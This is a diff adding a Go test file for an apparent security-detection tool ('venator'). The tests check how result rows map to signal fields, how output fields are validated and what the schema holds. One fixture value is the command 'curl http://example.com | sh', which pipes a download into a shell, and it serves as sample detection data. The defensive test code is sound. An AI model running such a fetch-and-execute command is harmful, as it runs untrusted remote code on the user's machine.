@@ -0,0 +1,150 @@
+package signal_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/nianticlabs/venator/internal/config"
+	"github.com/nianticlabs/venator/internal/result"
+	"github.com/nianticlabs/venator/internal/signal"
+)
+
+func TestBuildSignalDottedPaths(t *testing.T) {
+	cfg := &config.RuleConfig{
+		Name: "test-rule",
+		UID:  "test-uid",
+		Output: config.Output{
+			Fields: []config.OutputField{
+				{Field: "actor.user.email", Source: "email"},
+				{Field: "device.os.name", Source: "host.os"},
+				{Field: "process.cmd_line", Source: "cmd"},
+				{Field: "process.pid", Source: "pid"},
+				{Field: "SrcIP", Source: "ip"},
+				{Field: "extensions.geo.country", Source: "country"},
+				{Field: "extensions.attempts", Source: "attempts"},
+			},
+		},
+	}
+	row := result.Row{
+		"email":    "alice@example.com",
+		"host":     map[string]any{"os": "Linux"},
+		"cmd":      "curl http://example.com | sh",
+		"pid":      "4242",
+		"ip":       "10.0.0.1",
+		"country":  "NZ",
+		"attempts": int64(3),
+	}
+
+	sig, err := signal.BuildSignal(row, cfg)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	expected := &signal.Signal{
+		Rule_ID:     cfg.UID,
+		Rule_Name:   cfg.Name,
+		TTPs:        []map[string]string{},
+		Actor:       signal.Actor{User: signal.User{Email: "alice@example.com"}},
+		SrcEndpoint: signal.Endpoint{IP: "10.0.0.1"},
+		Device:      signal.Device{OS: signal.OS{Name: "Linux"}},
+		Process:     signal.Process{PID: 4242, CmdLine: "curl http://example.com | sh"},
+		Extensions: map[string]any{
+			"geo":      map[string]any{"country": "NZ"},
+			"attempts": int64(3),
+		},
+	}
+	if diff := cmp.Diff(expected, sig, ignoreFindingUID); diff != "" {
+		t.Fatalf("unexpected result (-want +got):\n%s", diff)
+	}
+}
+
+func TestBuildSignalExtensionsObject(t *testing.T) {
+	cfg := &config.RuleConfig{
+		Output: config.Output{
+			Fields: []config.OutputField{{Field: "extensions", Source: "details"}},
+		},
+	}
+
+	sig, err := signal.BuildSignal(result.Row{"details": map[string]any{"attempts": int64(3)}}, cfg)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if diff := cmp.Diff(map[string]any{"attempts": int64(3)}, sig.Extensions); diff != "" {
+		t.Errorf("unexpected extensions (-want +got):\n%s", diff)
+	}
+
+	if _, err := signal.BuildSignal(result.Row{"details": "not an object"}, cfg); err == nil {
+		t.Errorf("expected an error for a non-object extensions source")
+	}
+}
+
+func TestValidateFields(t *testing.T) {
+	tests := []struct {
+		name       string
+		fields     []config.OutputField
+		errMessage string
+	}{
+		{
+			name: "legacy names, paths and extensions",
+			fields: []config.OutputField{
+				{Field: "Timestamp"},
+				{Field: "device.hostname"},
+				{Field: "extensions.anything.goes"},
+			},
+		},
+		{
+			name:       "unknown path",
+			fields:     []config.OutputField{{Field: "device.owner"}},
+			errMessage: "unsupported output field device.owner",
+		},
+		{
+			name:       "fields set from the rule can't be mapped",
+			fields:     []config.OutputField{{Field: "rule_id"}},
+			errMessage: "unsupported output field rule_id",
+		},
+		{
+			name:       "intermediate objects can't be mapped",
+			fields:     []config.OutputField{{Field: "actor.user"}},
+			errMessage: "unsupported output field actor.user",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := signal.ValidateFields(tt.fields)
+			if tt.errMessage == "" {
+				if err != nil {
+					t.Fatalf("unexpected error: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.errMessage) {
+				t.Fatalf("expected error containing %q, got %v", tt.errMessage, err)
+			}
+		})
+	}
+}
+
+func TestSchema(t *testing.T) {
+	types := make(map[string]string)
+	for _, f := range signal.Schema() {
+		types[f.Path] = f.Type
+	}
+
+	for path, typ := range map[string]string{
+		"timestamp":          signal.FieldTypeTimestamp,
+		"actor.user.email":   signal.FieldTypeString,
+		"device.os.name":     signal.FieldTypeString,
+		"process.pid":        signal.FieldTypeInteger,
+		"rule_specific_data": signal.FieldTypeObject,
+		"extensions":         signal.FieldTypeObject,
+	} {
+		if types[path] != typ {
+			t.Errorf("expected %s to be %s, got %q", path, typ, types[path])
+		}
+	}
+	if _, ok := types["confidence"]; ok {
+		t.Errorf("expected confidence not to be mappable")
+	}
+}